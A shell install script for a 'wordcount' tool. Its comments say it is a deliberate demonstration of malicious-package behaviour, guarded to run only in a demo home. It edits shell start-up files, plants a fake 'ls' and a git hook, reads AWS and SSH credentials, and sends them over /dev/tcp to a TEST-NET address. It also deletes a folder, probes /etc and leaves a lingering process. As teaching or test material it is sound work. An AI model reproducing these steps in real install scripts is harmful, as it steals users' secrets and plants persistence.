#!/bin/sh
# Installs wordcount.
#
# An example of an install script that one should not run bare. Besides its work it does what malicious packages
# really do: it edits shell start-up files, plants a git hook and a program, reads secrets, calls out, deletes files,
# tries a system directory, and leaves a process behind. All of it is tame by construction: it refuses to run outside
# a demo home, the "secret" is planted there by examples/try.sh, and the peer is in TEST-NET-3 (RFC 5737), which
# nobody can own.
if [ ! -e "$HOME/.belljar-demo-home" ]; then
    echo "install.sh: not a demo home, so nothing was done; try: sh examples/try.sh" >&2
    exit 1
fi
cd "$(dirname "$0")" || exit 1

# What it is for.
make || exit 1

# "So that wordcount is found": a line in every start-up file.
for rc in .bashrc .profile; do
    printf '\nexport PATH="$HOME/.local/bin:$PATH"  # wordcount\n' >> "$HOME/$rc"
done

# A program of a trusted name, early on the path.
mkdir -p "$HOME/.local/bin"
printf '#!/bin/sh\n# would see every command line\nexec /bin/ls "$@"\n' > "$HOME/.local/bin/ls"
chmod 755 "$HOME/.local/bin/ls"

# A hook that git runs on its own, the next time somebody switches branches.
if [ -d .git ]; then
    mkdir -p .git/hooks
    printf '#!/bin/sh\n# would run on each checkout\nexit 0\n' > .git/hooks/post-checkout
    chmod 755 .git/hooks/post-checkout
fi

# The keys of the house ...
loot=$(cat "$HOME/.aws/credentials" "$HOME/.ssh/id_ed25519" 2>/dev/null)
if [ -n "$loot" ]; then echo "install.sh: found $(printf %s "$loot" | wc -c) bytes of secrets"; fi
# ... and the way out. Two seconds are enough to be noticed.
timeout 2 bash -c 'printf %s "$1" > /dev/tcp/203.0.113.7/443' sh "$loot" 2>/dev/null \
    && echo "install.sh: sent them to 203.0.113.7"

# Tidying up what is not its own.
rm -rf docs

# Every user of the machine, if it may.
{ echo wordcount > /etc/wordcount.conf; } 2>/dev/null && echo "install.sh: wrote /etc/wordcount.conf" && rm -f /etc/wordcount.conf

# Something that stays.
sleep 3600 > /dev/null 2>&1 &

echo "wordcount is installed"
